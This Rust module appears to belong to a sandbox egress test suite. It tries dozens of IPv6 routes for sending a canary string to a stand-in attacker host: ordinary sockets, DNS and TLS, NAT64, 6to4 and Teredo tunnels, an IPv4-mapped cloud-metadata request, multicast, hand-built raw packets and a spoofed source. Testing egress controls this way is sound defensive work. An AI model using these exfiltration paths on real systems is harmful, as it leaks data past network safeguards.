//! IPv6 by every way that the kernel has for a program, and by hand.

use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV6, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::fd::AsRawFd;
use std::thread;

use nix::libc;
use nix::net::if_::if_nametoindex;
use nix::sys::socket::{self as sock, MsgFlags, SockFlag, SockType, SockaddrIn6, sendto};
use rustix::net::{AddressFamily, SocketType};

use super::dns::{PORT as DNS, framed, query};
use super::effects::socket;
use super::{Ctx, Failed, Run, quic, raw, send, sys, target, tls};
use crate::catalogue::names::{EVIL, GOOD, PLAIN, on_link};

const HIGH: u16 = 9999;
const TCP: u16 = 9000;
const MPTCP: u32 = 262;
const UDPLITE: u32 = 136;
/// The attacker's host.
const HOST: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0xbad, 0, 0, 0, 0, 1);
const UNIQUE_LOCAL: Ipv6Addr = Ipv6Addr::new(0xfd12, 0x3456, 0x789a, 0, 0, 0, 0, 1);

// Protocol numbers of the headers.
const HOP_BY_HOP: u8 = 0;
const ROUTING: u8 = 43;
const FRAGMENT: u8 = 44;
const ICMP: u8 = 58;
const NONE: u8 = 59;
const OPTIONS: u8 = 60;
const UDP: u8 = 17;

pub(super) const CODE: &[(&str, Run)] = &[
    ("ip6-udp", |c| udp(HOST, HIGH, c.canary.as_bytes())),
    ("ip6-udp-connected", |c| {
        let socket = bound()?;
        six(socket.connect((HOST, HIGH)))?;
        socket.send(c.canary.as_bytes())?;
        Ok("sent".to_owned())
    }),
    ("ip6-udp-large", |c| udp(HOST, HIGH, format!("{:.<4000}", c.canary).as_bytes())),
    ("ip6-tcp", |c| tcp(HOST, TCP, c.canary.as_bytes())),
    ("ip6-tcp-fast-open", |c| {
        let fd = six_socket(SocketType::STREAM, None)?;
        sock::setsockopt(&fd, sock::sockopt::SendTimeout, &nix::sys::time::TimeVal::new(1, 500_000))?;
        let flag = MsgFlags::from_bits_retain(libc::MSG_FASTOPEN);
        known(sendto(fd.as_raw_fd(), c.canary.as_bytes(), &to(HOST, TCP), flag))?;
        thread::sleep(send::ANSWER);
        Ok("sent".to_owned())
    }),
    ("ip6-mptcp", |c| {
        let fd = six_socket(SocketType::STREAM, Some(MPTCP))?;
        known(sock::connect(fd.as_raw_fd(), &to(HOST, TCP)))?;
        sock::send(fd.as_raw_fd(), c.canary.as_bytes(), MsgFlags::empty())?;
        thread::sleep(send::ANSWER);
        Ok("sent".to_owned())
    }),
    ("ip6-udplite", |c| {
        let fd = six_socket(SocketType::DGRAM, Some(UDPLITE))?;
        known(sendto(fd.as_raw_fd(), c.canary.as_bytes(), &to(HOST, HIGH), MsgFlags::empty()))?;
        Ok("sent".to_owned())
    }),
    ("ip6-ping", |c| {
        let fd = six_socket(SocketType::DGRAM, Some(u32::from(ICMP)))?;
        let request = [&[128, 0, 0, 0, 0, 1, 0, 1][..], c.canary.as_bytes()].concat();
        known(sendto(fd.as_raw_fd(), &request, &to(HOST, 0), MsgFlags::empty()))?;
        Ok("sent".to_owned())
    }),
    ("ip6-dns-udp", |c| udp(HOST, DNS, &query(&c.name(), 1))),
    ("ip6-dns-tcp", |c| tcp(HOST, 5353, &framed(&query(&c.name(), 1)))),
    ("ip6-tls", |c| tls_to(EVIL, c)),
    ("ip6-tls-listed", |c| tls_to(GOOD, c)),
    ("ip6-http", |c| {
        let request = format!("GET /{} HTTP/1.1\r\nHost: {PLAIN}\r\n\r\n", c.canary);
        tcp(HOST, 80, request.as_bytes())
    }),
    ("ip6-quic", |c| udp(HOST, 443, &quic::initial(c, EVIL, b"h3")?)),
    ("ip6-sink-directly", |c| tcp(on_link(c.places.sink), TCP, c.canary.as_bytes())),
    ("ip6-unique-local", |c| tcp(UNIQUE_LOCAL, TCP, c.canary.as_bytes())),
    ("ip6-nat64", |c| tcp(within([0x64, 0xff9b, 0, 0, 0, 0]), TCP, c.canary.as_bytes())),
    ("ip6-nat64-udp", |c| udp(within([0x64, 0xff9b, 0, 0, 0, 0]), HIGH, c.canary.as_bytes())),
    ("ip6-6to4", |c| {
        let [high, low] = halves(target::EVIL);
        tcp(Ipv6Addr::new(0x2002, high, low, 0, 0, 0, 0, 1), TCP, c.canary.as_bytes())
    }),
    ("ip6-teredo", |c| {
        let [high, low] = halves(target::EVIL);
        tcp(Ipv6Addr::new(0x2001, 0, high, low, 0, 0, 0, 1), TCP, c.canary.as_bytes())
    }),
    ("ip6-compatible", |c| udp(within([0; 6]), HIGH, c.canary.as_bytes())),
    ("ip6-mapped-dns", |c| udp(target::DNS.to_ipv6_mapped(), DNS, &query(&c.name(), 1))),
    ("ip6-mapped-metadata", |c| {
        let request = format!("GET /latest/{} HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", c.canary);
        tcp(target::METADATA.to_ipv6_mapped(), 80, request.as_bytes())
    }),
    ("ip6-all-nodes", |c| multicast(Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1), HIGH, c.canary.as_bytes())),
    ("ip6-multicast", |c| multicast(Ipv6Addr::new(0xff0e, 0, 0, 0, 0, 0, 9, 9), HIGH, c.canary.as_bytes())),
    ("ip6-mdns", |c| multicast(Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 0xfb), 5353, &query(&c.name(), 1))),
    ("ip6-llmnr", |c| multicast(Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 1, 3), 5355, &query(&c.name(), 1))),
    ("ip6-flow-label", |c| {
        let socket = bound()?;
        sys::set_option(&socket, libc::IPPROTO_IPV6, AUTOMATIC_LABEL, &1i32.to_ne_bytes())?;
        six(socket.send_to(c.canary.as_bytes(), (HOST, HIGH)))?;
        Ok("sent".to_owned())
    }),
    ("ip6-to-device", |c| {
        let socket = bound()?;
        sys::set_option(&socket, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, b"eth0\0")?;
        six(socket.send_to(c.canary.as_bytes(), (HOST, HIGH)))?;
        Ok("sent".to_owned())
    }),
    ("ip6-other-udp", |c| udp(HOST, HIGH, c.canary.as_bytes())),
    ("ip6-other-tcp", |c| tcp(HOST, TCP, c.canary.as_bytes())),
    ("ip6-root-udp", |c| udp(HOST, HIGH, c.canary.as_bytes())),
    ("ip6-root-tcp", |c| tcp(HOST, TCP, c.canary.as_bytes())),
    ("wire6-udp", |c| by_hand(UDP, &raw::udp(c.canary.as_bytes()))),
    ("wire6-none", |c| by_hand(NONE, c.canary.as_bytes())),
    ("wire6-hop-by-hop", |c| by_hand(HOP_BY_HOP, &extension(UDP, &raw::udp(c.canary.as_bytes())))),
    ("wire6-destination", |c| by_hand(OPTIONS, &extension(UDP, &raw::udp(c.canary.as_bytes())))),
    ("wire6-routing", |c| {
        let mut header = vec![UDP, 2, 0, 0, 0, 0, 0, 0];
        header.extend(HOST.octets());
        by_hand(ROUTING, &[header, raw::udp(c.canary.as_bytes())].concat())
    }),
    ("wire6-segments", |c| {
        let mut header = vec![UDP, 2, 4, 0, 0, 0, 0, 0];
        header.extend(HOST.octets());
        by_hand(ROUTING, &[header, raw::udp(c.canary.as_bytes())].concat())
    }),
    ("wire6-fragment", |c| {
        by_hand(FRAGMENT, &[&[UDP, 0, 0, 0, 0, 0, 0x43, 0x4c][..], &raw::udp(c.canary.as_bytes())].concat())
    }),
    ("wire6-many-headers", |c| {
        let last = extension(UDP, &raw::udp(c.canary.as_bytes()));
        by_hand(OPTIONS, &(1..8).fold(last, |rest, _| extension(OPTIONS, &rest)))
    }),
    ("wire6-esp", |c| by_hand(50, &[&[0, 0, 1, 0, 0, 0, 0, 1][..], c.canary.as_bytes()].concat())),
    ("wire6-gre", |c| by_hand(47, &[&[0, 0, 8, 0][..], c.canary.as_bytes()].concat())),
    ("wire6-4in6", |c| {
        let shape = raw::Shape { source: Ipv4Addr::new(10, 0, 0, 9), ..raw::Shape::default() };
        by_hand(4, &raw::header(UDP, shape, &raw::udp(c.canary.as_bytes())))
    }),
    ("wire6-sctp", |c| by_hand(132, &[&[0x27, 15, 0x27, 15, 0, 0, 0, 0][..], c.canary.as_bytes()].concat())),
    ("wire6-253", |c| by_hand(253, c.canary.as_bytes())),
    ("wire6-solicitation", |c| icmp(135, &HOST.octets(), c)),
    ("wire6-advertisement", |c| icmp(136, &HOST.octets(), c)),
    ("wire6-router", |c| icmp(134, &[0; 8], c)),
    ("wire6-redirect", |c| icmp(137, &[HOST.octets(), HOST.octets()].concat(), c)),
    ("wire6-listener", |c| icmp(143, &[], c)),
    ("wire6-error", |c| icmp(1, &[], c)),
    ("wire6-node-query", |c| icmp(139, &[0; 8], c)),
    ("wire6-tcp-ack", |c| by_hand(6, &super::wire::acknowledgement(c.canary.as_bytes()))),
    ("wire6-spoofed", |c| {
        let source = Ipv6Addr::new(0x2001, 0xdb8, 0xc1a0, 0, 0, 0, 0, 0x99);
        by_hand_from(source, UDP, &raw::udp(c.canary.as_bytes()))
    }),
];

/// `IPV6_AUTOFLOWLABEL` of linux/in6.h.
const AUTOMATIC_LABEL: i32 = 70;

/// Looks for an IPv6 address of a listed name as for any, and dials the first that the system gives.
pub(super) fn rebound(name: &str, c: &Ctx) -> Result<String, Failed> {
    let to = first(name)?;
    let request = format!("GET /{} HTTP/1.1\r\nHost: {name}\r\n\r\n", c.canary);
    tls::talk(to, Some(name), request.as_bytes())
}

/// The first address of a name, of either family.
pub(super) fn first(name: &str) -> Result<SocketAddr, Failed> {
    let none = || Failed::Refused(format!("{name} has no address"));
    (name, 443).to_socket_addrs().map_err(|_| none())?.next().ok_or_else(none)
}

/// A container without IPv6 has no socket of it, or no way for it.
fn six<T>(ended: std::io::Result<T>) -> Result<T, Failed> {
    use libc::{EADDRNOTAVAIL, EAFNOSUPPORT, ENETUNREACH};
    ended.map_err(|error| match error.raw_os_error() {
        Some(EADDRNOTAVAIL | EAFNOSUPPORT | ENETUNREACH) => {
            Failed::Impossible(format!("this container has no IPv6: {error}"))
        }
        _ => error.into(),
    })
}

fn known<T>(ended: nix::Result<T>) -> Result<T, Failed> {
    six(ended.map_err(std::io::Error::from))
}

fn six_socket(kind: SocketType, protocol: Option<u32>) -> Result<std::os::fd::OwnedFd, Failed> {
    socket(AddressFamily::INET6, kind, protocol)
}

fn bound() -> Result<UdpSocket, Failed> {
    six(UdpSocket::bind((Ipv6Addr::UNSPECIFIED, 0)))
}

fn udp(to: Ipv6Addr, port: u16, bytes: &[u8]) -> Result<String, Failed> {
    six(bound()?.send_to(bytes, (to, port)))?;
    Ok("sent".to_owned())
}

fn multicast(group: Ipv6Addr, port: u16, bytes: &[u8]) -> Result<String, Failed> {
    let link = if_nametoindex("eth0")?;
    six(bound()?.send_to(bytes, SocketAddrV6::new(group, port, 0, link)))?;
    Ok("sent".to_owned())
}

fn tcp(to: Ipv6Addr, port: u16, bytes: &[u8]) -> Result<String, Failed> {
    let stream = six(TcpStream::connect_timeout(&(to, port).into(), send::CONNECT))?;
    stream.set_read_timeout(Some(send::ANSWER))?;
    send::talk(stream, bytes)
}

fn tls_to(name: &str, c: &Ctx) -> Result<String, Failed> {
    // Whether there is a way at all is asked first: a session says no more than that it failed.
    six(bound()?.connect((HOST, 443)))?;
    let request = format!("GET /{} HTTP/1.1\r\nHost: {name}\r\n\r\n", c.canary);
    tls::talk((HOST, 443), Some(name), request.as_bytes())
}

fn to(address: Ipv6Addr, port: u16) -> SockaddrIn6 {
    SockaddrIn6::from(SocketAddrV6::new(address, port, 0, 0))
}

fn halves(address: Ipv4Addr) -> [u16; 2] {
    let [a, b, c, d] = address.octets();
    [u16::from_be_bytes([a, b]), u16::from_be_bytes([c, d])]
}

/// The attacker's IPv4 address as the last words of one of IPv6.
fn within(prefix: [u16; 6]) -> Ipv6Addr {
    let ([a, b, c, d, e, f], [high, low]) = (prefix, halves(target::EVIL));
    Ipv6Addr::new(a, b, c, d, e, f, high, low)
}

/// A header of options, which are only padding.
fn extension(next: u8, rest: &[u8]) -> Vec<u8> {
    [&[next, 0, 1, 4, 0, 0, 0, 0][..], rest].concat()
}

/// A message with an option of nobody's behind it.
fn icmp(kind: u8, body: &[u8], c: &Ctx) -> Result<String, Failed> {
    let option = format!("{:.<30}", c.canary);
    by_hand(ICMP, &[&[kind, 0, 0, 0, 0, 0, 0, 0][..], body, &[253, 4], option.as_bytes()].concat())
}

fn by_hand(next: u8, body: &[u8]) -> Result<String, Failed> {
    let own = bound()?;
    six(own.connect((HOST, HIGH)))?;
    match own.local_addr()?.ip() {
        std::net::IpAddr::V6(source) => by_hand_from(source, next, body),
        std::net::IpAddr::V4(_) => Err(Failed::Impossible("this container has no IPv6".to_owned())),
    }
}

fn by_hand_from(source: Ipv6Addr, next: u8, body: &[u8]) -> Result<String, Failed> {
    let fd = sock::socket(
        sock::AddressFamily::Inet6,
        SockType::Raw,
        SockFlag::SOCK_CLOEXEC,
        sock::SockProtocol::Raw,
    )?;
    let length = u16::try_from(body.len()).unwrap_or(u16::MAX).to_be_bytes();
    let mut packet = vec![0x60, 0, 0, 0, length[0], length[1], next, 255];
    packet.extend(source.octets());
    packet.extend(HOST.octets());
    packet.extend(body);
    known(sendto(fd.as_raw_fd(), &packet, &to(HOST, 0), MsgFlags::empty()))?;
    Ok("sent".to_owned())
}
